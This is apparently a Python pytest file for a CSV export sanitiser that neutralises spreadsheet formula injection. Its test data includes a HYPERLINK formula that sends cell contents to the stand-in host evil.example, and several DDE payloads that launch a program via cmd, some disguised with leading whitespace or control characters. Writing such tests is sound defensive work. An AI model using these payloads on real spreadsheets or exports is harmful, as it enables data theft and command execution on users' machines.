"""A sheet that goes out holds no formula, whatever somebody typed."""

import csv
import io
from decimal import Decimal

import pytest

from tracker.interop.cells import as_csv, disarmed


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
        "\0=1+1",
        "-12.5",
        "+441632960177",
    ],
)
def test_what_a_spreadsheet_would_work_out_stays_text(text):
    assert disarmed(text) == "'" + text


@pytest.mark.parametrize("text", ["Anna-Maria", "a=b", "", "12.5", "mail@a.b"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert disarmed(text) == text


def test_a_cell_can_t_break_out_of_its_quotes():
    rows = [['a","=1+1', "b\n=1+1", None, -3, Decimal("-1.5"), "=x"]]

    assert list(csv.reader(io.StringIO(as_csv(rows)))) == [
        ['a","=1+1', "b\n=1+1", "", "-3", "-1.5", "'=x"]
    ]
